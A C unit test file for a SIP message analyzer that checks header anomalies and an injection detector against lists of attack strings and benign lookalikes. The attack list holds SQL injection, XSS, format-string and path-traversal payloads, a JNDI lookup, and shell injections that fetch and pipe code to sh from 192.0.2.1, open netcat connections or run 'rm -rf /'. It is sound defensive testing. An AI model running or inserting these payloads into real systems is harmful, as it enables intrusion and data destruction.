/* SPDX-License-Identifier: MIT */
#include "analyze/sip/inject.h"
#include "analyze/sip/values.h"

#include <criterion/criterion.h>
#include <stdio.h>

#define A(name) SIP_ANOMALY(name)
#define VIA "Via: SIP/2.0/UDP 192.0.2.9:5060;branch=z9hG4bK1\r\n"
#define FROM "From: <sip:b@192.0.2.9>;tag=1\r\n"
#define TO "To: <sip:a@192.0.2.1>\r\n"
#define ID "Call-ID: x\r\n"
#define CSEQ "CSeq: 1 OPTIONS\r\n"
#define LINE "OPTIONS sip:a@192.0.2.1 SIP/2.0\r\n"

static const struct {
	const char *name;
	const char *text;
	uint64_t anomalies;
} cases[] = {
	{ "all there", LINE VIA FROM TO ID CSEQ "\r\n", 0 },
	{ "nothing there", LINE "\r\n", A(MISSING_VIA) | A(MISSING_FROM) | A(MISSING_TO) | A(MISSING_CALL_ID) | A(MISSING_CSEQ) },
	{ "second To", LINE VIA FROM TO TO ID CSEQ "\r\n", A(REPEATED_FIELD) },
	{ "second Via and Contact", LINE VIA VIA FROM TO ID CSEQ "Contact: <sip:a@b>\r\nContact: *\r\n\r\n", 0 },
	{ "Via unreadable", LINE "Via: nm\r\n" FROM TO ID CSEQ "\r\n", A(BAD_VIA) },
	{ "Via with bare IPv6", LINE "Via: SIP/2.0/UDP 2001:db8::5:5060;branch=z9hG4bK1\r\n" FROM TO ID CSEQ "\r\n", A(BAD_VIA) },
	{ "Via with IPv6", LINE "Via: SIP/2.0/UDP [2001:db8::5]:5060;branch=z9hG4bK1\r\n" FROM TO ID CSEQ "\r\n", 0 },
	{ "Via host with a space", LINE "Via: SIP/2.0/UDP a b;branch=z9hG4bK1\r\n" FROM TO ID CSEQ "\r\n", A(BAD_VIA) },
	{ "no branch", LINE "Via: SIP/2.0/UDP h\r\n" FROM TO ID CSEQ "\r\n", A(NO_BRANCH) },
	{ "no cookie", LINE "Via: SIP/2.0/UDP h;branch=abc\r\n" FROM TO ID CSEQ "\r\n", A(NO_BRANCH_COOKIE) },
	{ "From unbalanced", LINE VIA "From: \"b <sip:b@c>;tag=1\r\n" TO ID CSEQ "\r\n", A(BAD_FROM) },
	{ "From without URI", LINE VIA "From: b;tag=1\r\n" TO ID CSEQ "\r\n", A(BAD_FROM) },
	{ "From without tag", LINE VIA "From: <sip:b@c>\r\n" TO ID CSEQ "\r\n", A(NO_FROM_TAG) },
	{ "To with a bad host", LINE VIA FROM "To: <sip:b@c$d>\r\n" ID CSEQ "\r\n", A(BAD_TO) },
	{ "To with tel", LINE VIA FROM "To: <tel:+15550123>\r\n" ID CSEQ "\r\n", 0 },
	{ "To with a broken IPv6", LINE VIA FROM "To: <sip:b@[2001:db8:::1]>\r\n" ID CSEQ "\r\n", A(BAD_TO) },
	{ "Contact without URI", LINE VIA FROM TO ID CSEQ "Contact: <100>\r\n\r\n", A(BAD_CONTACT) },
	{ "CSeq unreadable", LINE VIA FROM TO ID "CSeq: OPTIONS\r\n\r\n", A(BAD_CSEQ) },
	{ "CSeq above 31 bits", LINE VIA FROM TO ID "CSeq: 2147483648 OPTIONS\r\n\r\n", A(BAD_CSEQ) },
	{ "CSeq of another method", LINE VIA FROM TO ID "CSeq: 1 INVITE\r\n\r\n", A(CSEQ_METHOD) },
	{ "CSeq method in another case", LINE VIA FROM TO ID "CSeq: 1 Options\r\n\r\n", A(CSEQ_METHOD) },
	{ "Max-Forwards 256", LINE VIA FROM TO ID CSEQ "Max-Forwards: 256\r\n\r\n", A(BAD_MAX_FORWARDS) },
	{ "Max-Forwards 0", LINE VIA FROM TO ID CSEQ "Max-Forwards: 0\r\n\r\n", 0 },
	{ "Request-URI with headers", "OPTIONS sip:a@b?x=y SIP/2.0\r\n" VIA FROM TO ID CSEQ "\r\n", A(BAD_REQUEST_URI) },
	{ "Request-URI with no host", "OPTIONS sip:a@ SIP/2.0\r\n" VIA FROM TO ID CSEQ "\r\n", A(BAD_REQUEST_URI) },
	{ "Request-URI of http", "OPTIONS http://x SIP/2.0\r\n" VIA FROM TO ID CSEQ "\r\n", A(BAD_REQUEST_URI) },
	{ "Request-URI of tel", "OPTIONS tel:100 SIP/2.0\r\n" VIA FROM TO ID CSEQ "\r\n", 0 },
	{ "response", "SIP/2.0 200 OK\r\n" VIA FROM TO ID CSEQ "\r\n", 0 },
	{ "injection in the Request-URI", "OPTIONS sip:a'%20or%201=1--@b SIP/2.0\r\n" VIA FROM TO ID CSEQ "\r\n", A(INJECTION) },
	{ "injection in a display name", LINE VIA "From: \"' union select 1\" <sip:b@c>;tag=1\r\n" TO ID CSEQ "\r\n", A(INJECTION) },
	{ "injection in an unreadable From", LINE VIA "From: \"x'='x <sip:b@c>;tag=1\r\n" TO ID CSEQ "\r\n", A(INJECTION) | A(BAD_FROM) },
	{ "injection in the agent", LINE VIA FROM TO ID CSEQ "User-Agent: <script>alert(1)</script>\r\n\r\n", A(INJECTION) },
	{ "injection in an unknown field", LINE VIA FROM TO ID CSEQ "X-Y: $(reboot)\r\n\r\n", A(INJECTION) },
	{ "injection in Call-ID", LINE VIA FROM TO "Call-ID: `id -a`@x\r\n" CSEQ "\r\n", A(INJECTION) },
};

Test(sip_check, cases)
{
	static struct sip_message m;
	struct sip_values v;
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		cr_assert_eq(sip_message_parse(slice_str(cases[i].text), &m), PARSE_OK, "%s", cases[i].name);
		sip_values_read(&m, &v);
		sip_values_check(&m, &v);
		cr_expect_eq(m.anomalies, cases[i].anomalies, "%s: %llx, not %llx", cases[i].name,
			     (unsigned long long)m.anomalies, (unsigned long long)cases[i].anomalies);
	}
}

static const char *const attacks[] = {
	"' or '1'='1", "100' or '1'='1", "admin'--", "admin' --", "admin' #", "x'; drop table users", "x');--", "1 union select 1,2",
	"1 UNION/**/SELECT 1", "' UNION ALL SELECT", "a%27%20or%201%3d1", "x' and 1=1", "x' and sleep(5)", "1 or 1=1", "'||'a", "\" or \"\"=\"",
	"a' or 'x' like 'x", "1;wget http://192.0.2.1/x", "x;curl 192.0.2.1|sh", "$(id)", "`wget x`", "${jndi:ldap://x/a}", "a | nc 192.0.2.1 1",
	"a|nc 192.0.2.1 1", "a && ping x", "a & rm -rf /", "x;/bin/sh", "%60wget%20x%60", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"%3Cscript%3E", "<?php system(1)", "%s%s%s%s", "%n%n%n%n", "%x %x %x", "%08x.%08x.%08x", "%5$n", "../../etc/passwd", "..%2f..%2fetc",
	"/etc/passwd", "..\\..\\boot.ini", "' having 1=1", "x' order by 3",
};

static const char *const honest[] = {
	"", "100", "alice", "O'Brien", "Pat O'And", "O'Or Brady", "AT&T", "Rock 'n' Roll", "the boys' and girls' choir", "50% off", "100%sure", "100% natural",
	"user%40example.com", "a%20b", "%C3%A4", "5f8b1e70-11d2-4b9a-9a55-0f3c6e6f7a10", "dGhpcyBpcyBhIHRlc3Q+/w==", ";transport=tcp", "user;phone-context=+49;isub=1",
	"*97", "**61*5551234#", "+49(30)12345", "Linphone/3.6.1 (eXosip2/4.1.0)", "Cisco/SPA504G-7.6.2b", "Mozilla/4.0 (compatible; snom725-SIP 8.9.3)",
	"Z 3.14.38765 rv2.8.3", "sip:a@b;lr", "Desk & Door", "R&D; Sales", "a|b", "union square", "select", "Bob `the builder",
	"x=1;y=2", "a/b/c", "A -- B", "1--2", "Ping Pong | Table", "sh", "id;cat=5", "$100", "price $ (5)", "<sip:100@192.0.2.1>;info=alert-autoanswer",
	"<http://www.example.com/sounds/moo.wav>", "IEEE-802.11; utran-cell-id-3gpp=23415", "Digest username=\"100\", realm=\"a|b\", nonce=\"x;y/z+==\"",
	"bodyguard <b@c>", "\"Alice\" <sip:a@b>", "a%2Fb", "18 o'clock", "d'Or", "Hotel 'Or'", "L'Union",
};

Test(sip_inject, attacks_and_honest_text)
{
	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
		cr_expect(sip_is_user_injection(slice_str(attacks[i])), "attack: %s", attacks[i]);
	for (size_t i = 0; i < sizeof honest / sizeof *honest; i++) {
		cr_expect_not(sip_is_user_injection(slice_str(honest[i])), "honest user: %s", honest[i]);
		cr_expect_not(sip_is_injection(slice_str(honest[i])), "honest text: %s", honest[i]);
	}
}

/* The same behind enough harmless text to be looked at sixteen bytes at a time, with each alignment. */
Test(sip_inject, long_texts)
{
	for (size_t pad = 9; pad < 33; pad++) {
		char text[256];
		memset(text, 'x', pad - 1);
		text[pad - 1] = ' ';
		for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
			snprintf(text + pad, sizeof text - pad, "%s", attacks[i]);
			cr_expect(sip_is_user_injection(slice_str(text)), "attack: %s", text);
		}
		for (size_t i = 0; i < sizeof honest / sizeof *honest; i++) {
			snprintf(text + pad, sizeof text - pad, "%s", honest[i]);
			cr_expect_not(sip_is_user_injection(slice_str(text)), "honest: %s", text);
		}
	}
}
